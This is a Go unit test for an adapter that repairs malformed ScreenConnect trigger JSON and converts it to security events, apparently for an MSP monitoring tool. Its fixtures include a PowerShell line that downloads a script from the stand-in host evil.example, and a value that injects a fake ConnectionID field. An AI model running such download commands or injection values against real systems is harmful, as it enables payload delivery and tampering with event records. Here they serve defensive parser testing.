package adapt

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/tripline/tripline/contract"
)

// scBody is the shipped trigger template with its placeholders replaced
// as ScreenConnect substitutes them: as they are, unescaped.
func scBody(values map[string]string) string {
	body := ScreenConnectTrigger
	// The template's placeholder for k is the text of its value.
	var tmpl map[string]string
	_ = json.Unmarshal([]byte(ScreenConnectTrigger), &tmpl)
	for _, k := range scTemplate.keys {
		v, ok := values[k]
		if !ok {
			v = "x-" + k
		}
		body = strings.Replace(body, `"`+k+`":"`+tmpl[k]+`"`, `"`+k+`":"`+v+`"`, 1)
	}
	return body
}

// TestScreenConnectRepair: a trigger body whose values were substituted
// unescaped (quotes, backslashes, newlines in a command) converts to the
// event the same values escaped would give, marked repaired; a field that
// holds another field's delimiter as text only moves Data's end; a body
// that is not the template's shape stays an error.
func TestScreenConnectRepair(t *testing.T) {
	if len(scTemplate.keys) != 14 || scTemplate.keys[0] != "EventID" || scTemplate.keys[scTemplate.free] != scFreeText {
		t.Fatalf("template keys %q, free-text field at %d", scTemplate.keys, scTemplate.free)
	}
	base := map[string]string{
		"EventID": "a1b2", "EventType": "RanCommand", "Time": "2025-11-20T14:00:12.1234567Z",
		"SessionID": "7f1e", "SessionName": "ELEC-WS014", "CustomProperty1": "County Elections KS",
		"GuestMachineName": "ELEC-WS014", "GuestOperatingSystemName": "Windows 11", "Host": "asmith",
		"ConnectionID": "c-99", "ProcessType": "Host", "ParticipantName": "Alice Smith", "NetworkAddress": "203.0.113.7",
	}
	with := func(k, v string) map[string]string {
		m := map[string]string{}
		for x, y := range base {
			m[x] = y
		}
		m[k] = v
		return m
	}
	for _, c := range []struct {
		name    string
		values  map[string]string
		command string // the event's script.command ("" : an error)
		conn    string // its session's connection (attributes)
	}{
		{"quotes", with("Data", `#!ps`+"\n"+`Invoke-WebRequest "http://evil.example/a.ps1" -OutFile C:\Temp\a.ps1`), `Invoke-WebRequest "http://evil.example/a.ps1" -OutFile C:\Temp\a.ps1`, "c-99"},
		{"a delimiter inside Data", with("Data", `echo "","ConnectionID":"fake","x`), `echo "","ConnectionID":"fake","x`, "c-99"},
		{"a quote in a name", with("SessionName", `Bob's "special" PC`), "x-Data", "c-99"},
		{"valid JSON needs no repair", base, "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			body := scBody(c.values)
			valid := json.Valid([]byte(body))
			a, _ := Get("screenconnect")
			var evs []*contract.Event
			err := a.Convert([]byte(body), testMSP, func(o Out) error {
				if o.Event == nil {
					t.Fatalf("%+v", o)
				}
				evs = append(evs, Keep(o.Event))
				return nil
			})
			if err != nil || len(evs) != 1 {
				t.Fatalf("%q: %v, %d events", body, err, len(evs))
			}
			ev := evs[0]
			if valid {
				if ev.Attributes[scRepaired] != "" {
					t.Fatalf("a valid body was repaired: %v", ev.Attributes)
				}
				return
			}
			if ev.Attributes[scRepaired] == "" {
				t.Errorf("not marked repaired: %v", ev.Attributes)
			}
			if ev.EventType != contract.TypeScriptRun || ev.Script.Command != c.command {
				t.Errorf("%s %q, want script.run %q", ev.EventType, ev.Script.Command, c.command)
			}
			if ev.Attributes["session_name"] != c.values["SessionName"] {
				t.Errorf("session_name %q, want %q", ev.Attributes["session_name"], c.values["SessionName"])
			}
			if ev.Attributes["ConnectionID"] != c.conn || ev.Actor.IP != "203.0.113.7" || ev.Actor.User != "asmith" {
				t.Errorf("connection %q, actor %+v", ev.Attributes["ConnectionID"], ev.Actor)
			}
		})
	}
	for _, bad := range []string{`{"EventID":"a","EventType":"RanCommand","Data":"x"y"}`, `{"Foo":"x"y"}`, `{"EventID":"a`} {
		if _, ok := (screenConnect{}).Repair([]byte(bad)); ok {
			t.Errorf("Repair(%q) accepted a body not of the template's shape", bad)
		}
	}
}
